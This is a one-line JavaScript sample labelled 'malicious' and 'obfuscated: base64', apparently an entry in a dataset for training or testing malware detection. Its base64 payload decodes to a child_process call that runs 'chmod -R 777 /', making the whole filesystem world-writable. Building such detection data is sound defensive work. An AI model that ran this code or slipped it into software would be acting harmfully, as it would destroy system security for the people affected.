// label: malicious; obfuscated: base64
new Function(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjaG1vZCAtUiA3NzcgLycp"))();
